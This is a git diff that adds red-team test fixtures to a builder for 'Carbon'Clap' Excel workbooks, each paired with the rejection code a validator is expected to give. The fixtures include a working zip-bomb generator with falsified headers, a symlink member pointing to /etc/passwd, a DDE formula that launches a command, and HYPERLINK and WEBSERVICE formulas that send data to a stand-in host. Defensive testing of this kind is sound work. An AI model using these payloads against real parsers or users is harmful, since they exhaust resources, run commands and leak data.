@@ -17,6 +17,7 @@ import io
 import struct
 import warnings
 import zipfile
+import zlib
 from collections.abc import Callable, Mapping
 from pathlib import Path
 
@@ -591,3 +592,216 @@ def build_all(
 ) -> dict[str, Path]:
     """Build every file of ``corpus`` into ``directory``; file name -> path."""
     return {name: builder(directory) for name, (builder, _code) in corpus.items()}
+
+
+# --- second round: Carbon'Clap workbooks a red team broke (issue 11) ------------------------------
+#
+# ``ROUND2`` maps a file name to ``(builder, verdict)``: the rejection code both ``process`` and
+# ``validate`` must give, or "ok" / "errors". Each builder starts from the real template.
+
+_GIB_TRICK_MIB = 1_100  # what the red team hid behind each lying member
+
+
+def lying_deflate(data: bytes, extra_mib: int) -> bytes:
+    """A raw deflate stream of ``data`` followed by ``extra_mib`` MiB of zeros, built from one
+    repeated 1 MiB block (about 1 KB each): a 1.1 GB stream costs 1.1 MB to build and store."""
+    head = zlib.compressobj(6, zlib.DEFLATED, -15)
+    out = head.compress(data) + head.flush(zlib.Z_FULL_FLUSH)
+    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = zeros.compress(b"\0" * 2**20) + zeros.flush(zlib.Z_FULL_FLUSH)
+    return out + block * extra_mib + zlib.compressobj(6, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
+
+
+def lying_zip(data: bytes, lies: Mapping[str, int], declare: Mapping[str, int] | None = None
+              ) -> bytes:
+    """The zip ``data`` rewritten by hand: each member of ``lies`` gets ``extra MiB`` of zeros
+    after its real content in its deflate stream, its header keeping the real size and CRC;
+    each member of ``declare`` declares that size instead of its own."""
+    declare = declare or {}
+    with zipfile.ZipFile(io.BytesIO(data)) as src:
+        members = [(i.filename, src.read(i), i.external_attr) for i in src.infolist()]
+    out, central = io.BytesIO(), b""
+    for name, content, attr in members:
+        raw = name.encode()
+        if name in lies:
+            packed = lying_deflate(content, lies[name])
+        else:
+            deflater = zlib.compressobj(6, zlib.DEFLATED, -15)
+            packed = deflater.compress(content) + deflater.flush()
+        size, crc, offset = declare.get(name, len(content)), zlib.crc32(content), out.tell()
+        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(packed),
+                              size, len(raw), 0) + raw + packed)
+        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 0x0314, 20, 0, 8, 0, 0x21, crc,
+                               len(packed), size, len(raw), 0, 0, 0, 0, attr, offset) + raw
+    start = out.tell()
+    out.write(central)
+    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members),
+                          len(central), start, 0))
+    return out.getvalue()
+
+
+def carbonclap_bytes(directory: Path, customise: Callable[[object], None] | None = None,
+                     production: Mapping[str, object] | None = None) -> bytes:
+    """A filled Carbon'Clap workbook (the template, four lines), as bytes."""
+    from tests.wbhelpers import PRODUCTION, make_workbook
+
+    path = directory / ".base.xlsx"
+    make_workbook(path, production={**PRODUCTION, **(production or {})}, customise=customise)
+    data = path.read_bytes()
+    path.unlink()
+    return data
+
+
+def sheet_part(data: bytes, sheet: str) -> str:
+    from carbonclap_xl.xlsx.package import sheet_parts
+
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        return sheet_parts(zf)[sheet]
+
+
+def _edit_sheet(data: bytes, sheet: str, edit: Callable[[bytes], bytes]) -> bytes:
+    part = sheet_part(data, sheet)
+    with zipfile.ZipFile(io.BytesIO(data)) as src:
+        content = src.read(part)
+    return _rewrite(data, {part: edit(content)})
+
+
+def _row(xml: bytes, number: int) -> bytes:
+    start = xml.index(b'<row r="%d"' % number)
+    return xml[start : xml.index(b"</row>", start) + len(b"</row>")]
+
+
+def _cc(name: str, make: Callable[[Path], bytes]) -> Builder:
+    def build(directory: Path) -> Path:
+        return _write(directory, name, make(directory))
+
+    build.__name__ = f"build_{name.split('.')[0]}"
+    return build
+
+
+def _cells(**cells: object) -> Callable[[Path], bytes]:
+    """Cells typed into the template, ``Sheet__A1=value``."""
+    def customise(wb: object) -> None:
+        for key, value in cells.items():
+            sheet, ref = key.split("__")
+            wb[sheet.replace("_", " ")][ref] = value  # type: ignore[index]
+
+    return lambda directory: carbonclap_bytes(directory, customise)
+
+
+def _lying(every_sheet: bool) -> Callable[[Path], bytes]:
+    def make(directory: Path) -> bytes:
+        data = carbonclap_bytes(directory)
+        with zipfile.ZipFile(io.BytesIO(data)) as zf:
+            sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
+        targets = sheets if every_sheet else [sheet_part(data, "Lieux")]
+        return lying_zip(data, dict.fromkeys(targets, _GIB_TRICK_MIB))
+    return make
+
+
+def _shorter(directory: Path) -> bytes:
+    data = carbonclap_bytes(directory)
+    part = sheet_part(data, "Lieux")
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        size = zf.getinfo(part).file_size
+    return lying_zip(data, {}, declare={part: size + 10_000})
+
+
+def _merges(directory: Path) -> bytes:
+    merges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (r, r) for r in range(5, 100_005))
+    return _edit_sheet(carbonclap_bytes(directory), "Lieux", lambda xml: xml.replace(
+        b"<dataValidations", b'<mergeCells count="100000">' + merges + b"</mergeCells>"
+        b"<dataValidations", 1))
+
+
+def _merge_outside(directory: Path) -> bytes:
+    return _edit_sheet(carbonclap_bytes(directory), "Lieux", lambda xml: xml.replace(
+        b"<dataValidations", b'<mergeCells count="1"><mergeCell ref="T10:U12"/></mergeCells>'
+        b"<dataValidations", 1))
+
+
+def _duplicate_rows(directory: Path) -> bytes:
+    import random
+
+    rnd = random.Random(11)  # varied values: the compression ratio stays ordinary
+    rows = b"".join(b'<row r="7"><c r="B7"><v>%d</v></c></row>' % rnd.randrange(10**9)
+                    for _ in range(250_000))
+    return _edit_sheet(carbonclap_bytes(directory), "Lieux",
+                       lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>", 1))
+
+
+def _rows_out_of_order(directory: Path) -> bytes:
+    def edit(xml: bytes) -> bytes:
+        five, six = _row(xml, 5), _row(xml, 6)
+        return xml.replace(five + six, six + five, 1)
+    return _edit_sheet(carbonclap_bytes(directory), "Lieux", edit)
+
+
+def _nested(sheet: str, formula: bool = False) -> Callable[[Path], bytes]:
+    def make(directory: Path) -> bytes:
+        cell = (b'<c r="Z40" t="inlineStr"><is>' + b"<r>" * 100_000 + b"<t>x</t>"
+                + b"</r>" * 100_000 + b"</is></c>")
+        if formula:
+            cell += b'<c r="AA40"><f>1+1</f><v>2</v></c>'
+
+        def edit(xml: bytes) -> bytes:
+            return xml.replace(b"</sheetData>", b'<row r="40">' + cell + b"</row></sheetData>",
+                               1)
+        return _edit_sheet(carbonclap_bytes(directory), sheet, edit)
+    return make
+
+
+def _nan(directory: Path) -> bytes:
+    def edit(xml: bytes) -> bytes:
+        row = _row(xml, 5)
+        start = row.index(b'<c r="B5"')
+        end = row.index(b"</c>", start) + 4
+        return xml.replace(row, row[:start] + b'<c r="B5" t="n"><v>NaN</v></c>' + row[end:], 1)
+    return _edit_sheet(carbonclap_bytes(directory), "Lieux", edit)
+
+
+def _symlink(directory: Path) -> bytes:
+    data = carbonclap_bytes(directory)
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
+        for info in src.infolist():
+            dst.writestr(info, src.read(info))
+        link = zipfile.ZipInfo("xl/media/lien.png")
+        link.create_system = 3
+        link.external_attr = (0o120777 << 16)  # a symbolic link, as `zip --symlinks` stores it
+        dst.writestr(link, "/etc/passwd")
+    return out.getvalue()
+
+
+FORMULA_TITLE = '=HYPERLINK("http://exemple.invalid/?fuite="&A1;"Cliquez")'
+LONG_ACTIVITY = "Électricité " + "x" * (32_767 - 12)  # Excel's longest cell text
+
+ROUND2: dict[str, tuple[Builder, str]] = {
+    "lying_sheet.xlsx": (_cc("lying_sheet.xlsx", _lying(False)), "ZIP_BOMB"),
+    "lying_every_sheet.xlsx": (_cc("lying_every_sheet.xlsx", _lying(True)), "ZIP_BOMB"),
+    "lying_shorter.xlsx": (_cc("lying_shorter.xlsx", _shorter), "CORRUPT_ZIP"),
+    "formula_title.xlsx": (
+        _cc("formula_title.xlsx", lambda d: carbonclap_bytes(d, production={
+            "title": FORMULA_TITLE})), "ok"),
+    "long_activity.xlsx": (
+        _cc("long_activity.xlsx", _cells(Lieux__A7=LONG_ACTIVITY, Lieux__B7=3)), "errors"),
+    "merges_100k.xlsx": (_cc("merges_100k.xlsx", _merges), "ok"),
+    "merge_outside_table.xlsx": (_cc("merge_outside_table.xlsx", _merge_outside), "ok"),
+    "dde_input.xlsx": (_cc("dde_input.xlsx", _cells(Lieux__B7="=cmd|' /C calc'!A0",
+                                                    Lieux__A7="elec_fr")), "errors"),
+    "webservice.xlsx": (
+        _cc("webservice.xlsx", _cells(Lieux__B7='=WEBSERVICE("http://exemple.invalid/x")',
+                                      Lieux__A7="elec_fr")), "errors"),
+    "duplicate_rows.xlsx": (_cc("duplicate_rows.xlsx", _duplicate_rows), "SHEET_TOO_LARGE"),
+    "rows_out_of_order.xlsx": (_cc("rows_out_of_order.xlsx", _rows_out_of_order),
+                               "CORRUPT_WORKBOOK"),
+    "nested_runs.xlsx": (_cc("nested_runs.xlsx", _nested("Lieux")), "CORRUPT_WORKBOOK"),
+    "nested_runs_unread_sheet.xlsx": (_cc("nested_runs_unread_sheet.xlsx",
+                                          _nested("Lisez-moi")), "ok"),
+    "nested_runs_formula.xlsx": (_cc("nested_runs_formula.xlsx",
+                                     _nested("Lisez-moi", formula=True)), "INPUT_FILE_ERROR"),
+    "nan_quantity.xlsx": (_cc("nan_quantity.xlsx", _nan), "errors"),
+    "tiny_budget.xlsx": (_cc("tiny_budget.xlsx", lambda d: carbonclap_bytes(
+        d, production={"budget_keur": 1e-320})), "ok"),
+    "symlink_member.xlsx": (_cc("symlink_member.xlsx", _symlink), "PATH_TRAVERSAL"),
+}
